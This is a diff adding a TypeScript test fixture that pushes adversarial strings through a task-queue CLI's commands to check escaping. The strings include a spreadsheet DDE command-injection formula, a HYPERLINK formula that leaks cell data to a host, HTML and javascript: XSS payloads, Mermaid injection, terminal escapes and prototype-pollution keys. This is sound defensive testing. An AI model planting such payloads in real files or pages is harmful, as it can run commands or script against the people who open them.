@@ -1,0 +1,93 @@
+import type { CliWorkspace } from '../support/cli-workspace.ts'
+import { ndjson } from '../support/cli-workspace.ts'
+
+/** Texts that mean something to a spreadsheet, a graph language, JSON, HTML, a shell or a terminal. */
+export const hostileTexts: ReadonlyArray<string> = [
+  '=HYPERLINK("http://example.com/?"&A1,"click")',
+  '+1+cmd|"/C calc"!A0',
+  '-2+3',
+  '@SUM(A1:A9)',
+  '＝1+1',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  "'=1+1",
+  "'",
+  '',
+  ' ',
+  'a "quoted" word, a comma; and\r\nlines\nmore',
+  '"]; t1 --> t2',
+  '%%{init: {"theme": "dark"}}%%',
+  'subgraph x\nend',
+  'style t2 fill:#f00; classDef x fill:#00f;',
+  'click t2 "javascript:alert(1)"',
+  '#quot; #35; #59; &quot; &amp;lt; &#34;',
+  '\\N \\G \\" \\',
+  '<b>bold</b><img src=x onerror=alert(1)><br/>',
+  '`**md**` _a_ ~b~ [c](d)',
+  '{{ [[ (( > | || }} ]] ))',
+  'שלום עולם',
+  'مرحبا 12',
+  '日本語 🧑‍🚀 é ﬂ°°34¶ß',
+  'a\u202eb\u2066c\u200fd',
+  'a\u0000b \\u0000 %00',
+  '\u001b[31mred\u0007',
+  '__proto__',
+  'null',
+  '1e5',
+  '2026-01-31',
+]
+
+/** Ids that are as bad, as far as ids may be. */
+const hostileIds = [
+  '=1+1',
+  '"];',
+  '-->',
+  '%%x',
+  '__proto__',
+  'constructor',
+  'end',
+  '#quot;',
+  '\\N',
+  '@x',
+  '<b>',
+  'שלום',
+  '🧑',
+  "'",
+  'a,b',
+]
+
+const kinds = ['docs', 'c"i\\', '__proto__', '=x']
+
+/** The id of the task with the hostile text of that number. */
+export const idAt = (i: number): string => hostileIds[i] ?? `t${i}`
+
+/** Adds a task a hostile text, some of which need others, and lets everything happen to them that can happen. */
+export const addHostileTasks = async (workspace: CliWorkspace): Promise<void> => {
+  const text = (i: number): string => hostileTexts[i] ?? ''
+  const tasks = hostileTexts.map((title, i) => ({
+    kind: kinds[i % kinds.length],
+    task_id: idAt(i),
+    title,
+    payload: i % 2 === 0 ? title : { [title]: [title, -1, null] },
+    ...(i >= 20 ? { needs: [idAt(i - 1), idAt(i - 20)] } : {}),
+    ...(i === 13 ? { not_before: '2100-01-01T00:00:00.000Z' } : {}),
+    ...(i % 3 === 0 ? { tags: ['=tag', `t"${i}`], key: `-k${i}`, priority: 3 } : {}),
+  }))
+  await workspace.done(['add', '-'], ndjson(...tasks))
+  const on = (...words: ReadonlyArray<string>) => workspace.done(words)
+  await on('claim', '=ann', '--count', '12', '--lease', 'none')
+  await on('renew', '=ann', idAt(0), '--progress', JSON.stringify(text(0)), '--lease', '1h')
+  await on('note', idAt(0), text(28), '--by', '@eve')
+  await on('complete', '=ann', idAt(0), '--result', JSON.stringify({ [text(9)]: text(13) }))
+  await on('fail', '=ann', idAt(3), '--error', text(12), '--no-retry')
+  await on('fail', '=ann', idAt(6), '--error', text(19), '--retry-in', '0')
+  await on('release', '=ann', idAt(9), '--reason', text(16))
+  await on('claim', 'b"o]b', '--task', idAt(6), '--lease', '1ms')
+  await on('claim', '=ann', '--task', idAt(6), '--lease', 'none')
+  await on('hold', idAt(8), '--reason', text(4), '--by', '-eve')
+  await on('cancel', idAt(5), '--reason', text(20), '--by', '-eve')
+  await on('complete', '=ann', idAt(6), '--result', '-5')
+  await on('retry', idAt(0), '--reason', text(14))
+  await on('pause', '=x', '--reason', text(1))
+}
